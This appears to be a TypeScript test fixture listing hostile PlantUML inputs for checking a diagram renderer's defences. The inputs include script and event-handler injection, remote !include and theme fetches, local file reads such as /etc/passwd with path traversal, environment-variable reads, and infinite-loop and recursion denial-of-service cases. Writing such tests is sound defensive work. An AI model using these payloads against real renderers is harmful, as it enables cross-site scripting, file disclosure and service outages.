import { CALL, FOREIGN, LINKS, MARKUP } from '../../../scripts/hostile/payloads.js';

const diagram = (text: string) => `@startuml\n${text}\n@enduml`;

/** Texts that try to run, to fetch, to restyle the page, or to hold it up. */
export const hostile: readonly string[] = [
  ...LINKS.map((link) => diagram(`class 甲 [[${link}]]`)),
  ...LINKS.slice(0, 2).map((link) => diagram(`a -> b : [[${link} 提示 文字]]`)),
  ...MARKUP.slice(0, 8).map((markup) => diagram(`note as n\n${markup}\nend note`)),
  diagram(`class a [[https://example.com{"><script>${CALL}</script>} x]]`),
  diagram(`participant "<svg onload=${CALL}>" as a\na -> a`),
  diagram(
    `sprite x <svg viewBox="0 0 9 9" onload="${CALL}"><script>${CALL}</script><path d="M0 0h9v9z"/></svg>\nrectangle "<$x>"`,
  ),
  diagram(`rectangle "<img:https://${FOREIGN}/img.png>"`),
  diagram(`rectangle "<img:file:///etc/passwd>"`),
  diagram(`!include https://${FOREIGN}/x.puml\na -> b`),
  diagram(`!includeurl https://${FOREIGN}/x.puml\na -> b`),
  diagram(`!include /etc/passwd\na -> b`),
  diagram(`!include ../../../../etc/hostname\na -> b`),
  diagram(`!theme evil from https://${FOREIGN}/themes\na -> b`),
  diagram(`!$x = %load_json("https://${FOREIGN}/data.json")\na -> b : $x`),
  diagram(`!$x = %getenv("HOME")\na -> b : $x`),
  diagram(`!import /etc\na -> b`),
  diagram(`skinparam backgroundColor url(https://${FOREIGN}/bg.png)\na -> b`),
  diagram(`skinparam defaultFontName x;}</style><script>${CALL}</script>\na -> b`),
  diagram(
    `<style>\nroot { FontName "x' onload='${CALL}" }\n@import url(https://${FOREIGN}/s.css)\n</style>\na -> b`,
  ),
  diagram(`!procedure f()\nf()\n!endprocedure\nf()\na -> b`),
  diagram(`!$i = 0\n!while %true()\n!$i = $i + 1\n!endwhile\na -> b`),
  diagram(`!$s = "x"\n!while %true()\n!$s = $s + $s\n!endwhile\na -> b : $s`),
  diagram(`!function f($n)\n!return f($n + 1) + f($n + 2)\n!endfunction\na -> b : f(1)`),
  diagram(`title <font:x" onload="${CALL}>x</font>\na -> b`),
  diagram(Array.from({ length: 1500 }, (_, index) => `c${index} --> c${(index * 7) % 1500}`).join('\n')),
  `@startditaa\n<script>${CALL}</script>\n@endditaa`,
  `@startjson\n{"a": "<img src=x onerror=${CALL}>"}\n@endjson`,
  `@startmindmap\n* <script>${CALL}</script>\n** [[javascript:${CALL} x]]\n@endmindmap`,
  `@startsalt\n{ [<script>${CALL}</script>] }\n@endsalt`,
];
